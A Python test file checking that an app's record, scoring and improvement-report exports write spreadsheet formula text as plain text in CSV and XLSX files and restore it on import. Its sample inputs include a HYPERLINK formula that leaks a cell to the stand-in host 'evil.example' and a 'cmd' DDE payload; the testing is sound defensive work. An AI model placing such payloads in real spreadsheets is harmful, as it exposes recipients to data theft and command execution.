"""Issue 18, Medium 4: texts that a spreadsheet would run as formulas are written as text in every CSV and XLSX."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from jobs.reports.exports import report_csv, report_xlsx
from jobs.reports.figures import build_figures
from jobs.reports.periods import parse_period
from records.enums import Role
from records.exporting import export_records
from records.formats.canonical import read_canonical_table, read_csv_records, read_xlsx_records
from records.operations import RecordFilters
from records.spreadsheets import restore_cell, safe_cell
from scoring.report_exports import export_report
from scoring.reports import parse_period as parse_score_period
from scoring.reports import score_report

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
TEXTS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", TEXTS)
def test_formula_texts_get_an_apostrophe_and_read_back_unchanged(text):
    assert safe_cell(text) == "'" + text
    assert restore_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", [-3, 2.5, "-3", "+0.5", "1e-3", "电话", "", None, "a=b", "'plain"])
def test_numbers_and_ordinary_texts_are_left_alone(value):
    assert safe_cell(value) == value


def test_an_apostrophe_already_before_a_formula_survives_the_round_trip():
    assert restore_cell(safe_cell("'=1+1")) == "'=1+1"


def _csv_rows(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content)))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_record_exports_write_formulas_as_text_and_import_them_back(db, make_user, make_record, tmp_path, fmt):
    admin = make_user(Role.ADMIN)
    make_record(problem_description=LINK, customer={"name": "@SUM(1,2)", "phone": "13812345678"})
    path = tmp_path / f"out.{fmt}"
    export_records(admin, RecordFilters(), path, fmt)
    if fmt == "csv":
        header, *rows = _csv_rows(path.read_text("utf-8-sig"))
        cells = dict(zip(header, rows[0], strict=True))
    else:
        sheet = load_workbook(path).worksheets[0]
        header = [cell.value for cell in sheet[1]]
        assert sheet.cell(row=2, column=header.index("problem_description") + 1).data_type == "s"
        cells = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
    assert cells["problem_description"] == "'" + LINK
    assert cells["customer_name"] == "'@SUM(1,2)"
    assert cells["duration_minutes"] in (12, "12")  # numbers stay numbers

    reader = read_csv_records if fmt == "csv" else read_xlsx_records
    (row,) = read_canonical_table(path.name, reader(path))
    assert row.values["problem_description"] == LINK
    assert row.values["customer_name"] == "@SUM(1,2)"


def test_scoring_report_exports_write_formulas_as_text(db, make_user, make_record):
    agent = make_user(Role.AGENT, display_name=LINK)
    make_record(agent)
    start, end = parse_score_period("2026-11")
    report = score_report(viewer=make_user(Role.ADMIN), start=start, end=end)
    header, row = _csv_rows(export_report(report, "csv").decode("utf-8-sig"))
    assert row[header.index("agent_name")] == "'" + LINK
    workbook = load_workbook(io.BytesIO(export_report(report, "xlsx")))
    names = [cell for sheet in workbook for line in sheet.iter_rows() for cell in line if LINK in str(cell.value)]
    assert names and all(cell.value == "'" + LINK and cell.data_type == "s" for cell in names)


def test_improvement_report_exports_write_formulas_as_text(db, make_user, make_record):
    agent = make_user(Role.AGENT, team="=1+1")
    make_record(agent)
    figures = build_figures(parse_period("monthly", "2026-11"), now=datetime(2026, 12, 5))
    data = {"figures": figures}
    rows = _csv_rows(report_csv(data).decode("utf-8-sig"))
    assert "'=1+1" in [row[2] for row in rows]
    assert "=1+1" not in [row[2] for row in rows]
    workbook = load_workbook(io.BytesIO(report_xlsx(data)))
    values = [cell.value for sheet in workbook for line in sheet.iter_rows() for cell in line]
    assert "'=1+1" in values
    assert "=1+1" not in values
